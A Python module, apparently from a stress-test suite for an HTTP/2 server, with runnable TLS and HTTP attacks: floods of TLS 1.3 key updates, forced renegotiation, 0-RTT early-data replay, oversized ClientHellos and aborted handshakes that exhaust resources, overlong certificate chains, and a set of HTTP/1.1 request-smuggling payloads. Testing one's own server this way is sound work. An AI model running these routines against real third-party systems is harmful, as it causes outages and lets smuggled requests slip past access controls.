"""Attacks below HTTP/2: on TLS, and with what is not HTTP/2. Python's ssl asks for no update of keys, no
renegotiation and no early data, so OpenSSL is called by hand."""

import ctypes
import itertools
import pathlib
import socket
import ssl
import struct
import subprocess
import tempfile
import time

from attacks import CHECK, DATA, END_HEADERS, END_STREAM, GET_SCORE, HEADERS, PREFACE, WATCH
from attacks import attack, call_headers, drain, frame, hold, in_threads, message, settings

LIBSSL = ctypes.CDLL("libssl.so.3")
LIBCRYPTO = ctypes.CDLL("libcrypto.so.3")
for library, names in ((LIBSSL, ("TLS_client_method", "SSL_CTX_new", "SSL_new", "SSL_get1_session")),
                       (LIBCRYPTO, ("BIO_new", "BIO_s_mem"))):
    for name in names:
        getattr(library, name).restype = ctypes.c_void_p
TLS_1_2, TLS_1_3 = 0x0303, 0x0304
SET_LOWEST, SET_HIGHEST, SET_NAME = 123, 124, 55
WANT_READ = 2
EARLY_DATA_ACCEPTED = 2
BOTH_WAYS = 3


class Tls:
    """A connection that trusts anybody, with OpenSSL's functions by hand. What they write is sent
    when `send` is called, so that many small records leave at once."""

    def __init__(self, target, highest=TLS_1_3, session=None, early=None):
        self.socket = target.tcp()
        self.context = ctypes.c_void_p(LIBSSL.SSL_CTX_new(ctypes.c_void_p(LIBSSL.TLS_client_method())))
        LIBSSL.SSL_CTX_ctrl(self.context, SET_LOWEST, ctypes.c_long(TLS_1_2), None)
        LIBSSL.SSL_CTX_ctrl(self.context, SET_HIGHEST, ctypes.c_long(highest), None)
        LIBSSL.SSL_CTX_set_alpn_protos(self.context, b"\x02h2", 3)
        self.ssl = ctypes.c_void_p(LIBSSL.SSL_new(self.context))
        self.incoming, self.outgoing = (ctypes.c_void_p(LIBCRYPTO.BIO_new(ctypes.c_void_p(LIBCRYPTO.BIO_s_mem())))
                                        for _ in range(2))
        LIBSSL.SSL_set_bio(self.ssl, self.incoming, self.outgoing)
        LIBSSL.SSL_set_connect_state(self.ssl)
        LIBSSL.SSL_ctrl(self.ssl, SET_NAME, ctypes.c_long(0), target.host.encode())
        self.buffer = ctypes.create_string_buffer(1 << 16)
        try:
            if session is not None:
                LIBSSL.SSL_SESSION_set_max_early_data(session, 1 << 20)
                LIBSSL.SSL_set_session(self.ssl, session)
                LIBSSL.SSL_write_early_data(self.ssl, early, ctypes.c_size_t(len(early)),
                                            ctypes.byref(ctypes.c_size_t()))
            self.handshake()
        except OSError:
            self.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self):
        LIBSSL.SSL_set_shutdown(self.ssl, BOTH_WAYS)  # a session that breaks off cannot be resumed
        LIBSSL.SSL_free(self.ssl)
        LIBSSL.SSL_CTX_free(self.context)
        self.socket.close()

    def send(self):
        out = bytearray()
        while (size := LIBCRYPTO.BIO_read(self.outgoing, self.buffer, len(self.buffer))) > 0:
            out += self.buffer.raw[:size]
        self.socket.sendall(out)
        return len(out)

    def receive(self):
        some = self.socket.recv(1 << 16)
        if not some:
            raise ConnectionError("it ended")
        LIBCRYPTO.BIO_write(self.incoming, some, len(some))

    def handshake(self):
        while (done := LIBSSL.SSL_do_handshake(self.ssl)) != 1:
            error = LIBSSL.SSL_get_error(self.ssl, done)
            self.send()
            if error != WANT_READ:
                LIBCRYPTO.ERR_clear_error()
                raise ConnectionError("the handshake failed")
            self.receive()
        self.send()

    def write(self, data):
        LIBSSL.SSL_write(self.ssl, data, len(data))
        self.send()

    def read(self):
        """Some of what the other side sends."""
        while (size := LIBSSL.SSL_read(self.ssl, self.buffer, len(self.buffer))) <= 0:
            if LIBSSL.SSL_get_error(self.ssl, size) != WANT_READ:
                raise ConnectionError("it ended")
            self.receive()
        return self.buffer.raw[:size]

    def ask_for_new_keys(self, both):
        LIBSSL.SSL_key_update(self.ssl, int(both))
        LIBSSL.SSL_do_handshake(self.ssl)

    def renegotiates(self):
        """Whether the other side shakes hands anew, as TLS 1.2 could. Seen by reading: what it sends unasked comes before
        its answer."""
        LIBSSL.SSL_renegotiate(self.ssl)
        LIBSSL.SSL_do_handshake(self.ssl)
        self.send()
        try:
            while LIBSSL.SSL_renegotiate_pending(self.ssl):
                size = LIBSSL.SSL_read(self.ssl, self.buffer, len(self.buffer))
                self.send()
                if size <= 0:
                    if LIBSSL.SSL_get_error(self.ssl, size) != WANT_READ:
                        LIBCRYPTO.ERR_clear_error()
                        return False
                    if LIBSSL.SSL_renegotiate_pending(self.ssl):
                        self.receive()
            return True
        except OSError:
            return False

    def session(self):
        return ctypes.c_void_p(LIBSSL.SSL_get1_session(self.ssl))

    def early_data_taken(self):
        return LIBSSL.SSL_get_early_data_status(self.ssl) == EARLY_DATA_ACCEPTED


def again(target, once, threads=4):
    """Does it again and again, in so many threads."""

    def run():
        while target.running():
            try:
                once()
            except OSError:
                target.count("ended")
                time.sleep(0.01)
    in_threads([run] * (target.connections or threads))


@attack
def key_updates(target):
    """Keys of TLS 1.3 that change again and again; every other time the server is to change its own, too."""
    watch = call_headers(WATCH, None, target.host)

    def once():
        with Tls(target) as connection:
            target.count("connections")
            # A call, so that the connection is not one without calls.
            connection.write(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, watch) +
                             frame(DATA, END_STREAM, 1, message()))
            while target.running():
                for i in range(2000):
                    connection.ask_for_new_keys(i % 2)
                target.count("updates", 2000)
                target.count("bytes", connection.send())
    again(target, once)


@attack
def renegotiations(target):
    """Asks to shake hands anew on each connection."""

    def once():
        with Tls(target, TLS_1_2) as connection:
            target.count("connections")
            connection.write(PREFACE + settings())
            target.count("renegotiated" if connection.renegotiates() else "refused")
    again(target, once)


def call_of_health(target):
    return (PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, call_headers(CHECK, None, target.host)) +
            frame(DATA, END_STREAM, 1, message()))


@attack
def early_data(target):
    """Comes back with the session of an earlier connection and calls before the handshake."""
    calls = call_of_health(target) * 40

    def once():
        with Tls(target) as first:
            first.write(call_of_health(target))
            first.read()
            session = first.session()
        try:
            for _ in range(20):
                with Tls(target, session=session, early=calls) as connection:
                    target.count("connections")
                    target.count("taken" if connection.early_data_taken() else "not taken")
        finally:
            LIBSSL.SSL_SESSION_free(session)
    again(target, once)


def vector(value, size):
    return len(value).to_bytes(size, "big") + value


def hello(share=b""):
    """The first message of TLS 1.3, with a share of a key or none."""
    extensions = [(43, vector(b"\x03\x04", 1)),                      # TLS 1.3
                  (10, vector(b"\x00\x1d\x00\x17", 2)),              # X25519 and P-256
                  (13, vector(b"\x04\x03\x08\x04\x04\x01", 2)),      # signatures
                  (51, vector(share and b"\x00\x1d" + vector(share, 2), 2)),
                  (16, vector(vector(b"h2", 1), 2))]
    body = b"".join(struct.pack(">H", kind) + vector(content, 2) for kind, content in extensions)
    return b"\1" + vector(b"\3\3" + b"r" * 32 + vector(b"s" * 32, 1) + vector(b"\x13\1\x13\2", 2) + b"\1\0" +
                          vector(body, 2), 3)


def record(content):
    return b"\x16\3\1" + vector(content, 2)


@attack
def huge_hellos(target):
    """Connections from a hundred addresses that announce the largest first message, which OpenSSL makes room for,
    and stop; every other one when it is asked to say hello again."""
    made = itertools.count()
    announced = record(b"\1" + (130_000).to_bytes(3, "big") + b"\3\3" + bytes(64))

    def begin():
        number = next(made)
        connection = target.tcp(f"127.1.{number % 100}.1")
        target.count("connections")
        if number % 2:
            connection.settimeout(2)
            connection.sendall(record(hello()))
            connection.recv(1 << 12)
        connection.sendall(announced)
        return connection

    def feed(connection):
        connection.setblocking(False)
        try:
            if not connection.recv(1 << 12):
                raise ConnectionError("it ended")
        except BlockingIOError:
            pass
    hold(target, 4000, begin, feed)


@attack
def hellos(target):
    """First messages that ask for all that a handshake costs, from who goes when the answer comes."""
    first = record(hello(bytes(range(32))))

    def once():
        with target.tcp() as connection:
            target.count("connections")
            connection.sendall(first)
            connection.recv(1)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    again(target, once)


@attack
def certificates(target):
    """Certificates that nobody has signed, in chains as long as OpenSSL takes them, and longer."""
    began = time.monotonic()
    with tempfile.TemporaryDirectory() as folder:
        key, one = pathlib.Path(folder) / "key", pathlib.Path(folder) / "one"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                        "-keyout", key, "-out", one, "-subj", "/CN=nobody"], check=True, capture_output=True)
        size = len(ssl.PEM_cert_to_DER_cert(one.read_text()))
        contexts = []
        for most in (90_000, 110_000):
            chain = pathlib.Path(folder) / "chain"
            chain.write_text(one.read_text() * (most // size))
            context = context_for("h2")
            context.load_cert_chain(chain, key)
            contexts.append(context)
        following = itertools.cycle(contexts)
        target.until += time.monotonic() - began

        def once():
            with next(following).wrap_socket(target.tcp()) as connection:
                target.count("connections")
                connection.sendall(call_of_health(target))
                connection.recv(1 << 12)
        again(target, once)


UPGRADE = (b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")


@attack
def plain_text(target):
    """HTTP/2 without TLS, known before and by an upgrade."""
    shapes = itertools.cycle([call_of_health(target), UPGRADE, UPGRADE + call_of_health(target)])

    def once():
        with target.tcp() as connection:
            target.count("connections")
            connection.sendall(next(shapes))
            while connection.recv(1 << 12):
                pass
    again(target, once)


def smuggled(host, token):
    """Requests of HTTP/1.1 of which the second hides in the first, by shape."""
    method = GET_SCORE.encode()
    start = b"POST " + method + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\n"
    start += b"Content-Type: application/grpc\r\nTE: trailers\r\nAuthorization: Bearer " + token.encode() + b"\r\n"
    inner = start + b"Content-Length: 5\r\n\r\n" + message()
    chunk = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
    return {
        "length and chunks": start + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
        "chunks, then a length": start + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + inner,
        "chunks in another spelling": start + b"Transfer-Encoding: xchunked\r\n\r\n" + chunk,
        "chunks after a space": start + b"Transfer-Encoding : chunked\r\n\r\n" + chunk,
        "two lengths": start + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
        "a length with a sign": start + b"Content-Length: +0\r\n\r\n" + inner,
        "a header over two lines": start + b"X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + inner,
        "one behind the other": inner + inner,
        "an upgrade": start + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
                      b"Content-Length: 0\r\n\r\n" + PREFACE + settings() +
                      frame(HEADERS, END_HEADERS, 3, call_headers(GET_SCORE, token, host)) +
                      frame(DATA, END_STREAM, 3, message()),
        "a tunnel": b"CONNECT " + host.encode() + b":443 HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n" + inner,
        "another host": inner.replace(b"POST " + method, b"POST https://elsewhere.example" + method),
    }


def context_for(*protocols):
    """For a connection that trusts anybody, to speak one of these behind it."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    return context


@attack
def requests_of_http1(target):
    """Requests of HTTP/1.1 that hide others."""
    context = context_for("http/1.1")
    shapes = itertools.cycle(smuggled(target.host, target.token or "none").values())

    def once():
        with context.wrap_socket(target.tcp(), server_hostname=target.host) as connection:
            target.count("connections")
            connection.settimeout(2)
            for _ in range(20):
                connection.sendall(next(shapes) * 10)
                drain(connection)
    again(target, once)


@attack
def other_names(target):
    """Other names and protocols in the handshake than those that are served, and HTTP/2 behind them."""
    contexts = itertools.cycle([context_for(), context_for("spdy/3"), context_for("h2")])
    names = itertools.cycle(["elsewhere.example", "x" * 60 + ".example", None, target.host])

    def once():
        with next(contexts).wrap_socket(target.tcp(), server_hostname=next(names)) as connection:
            target.count("connections")
            connection.settimeout(2)
            connection.sendall(call_of_health(target))
            connection.recv(1 << 12)
    again(target, once)
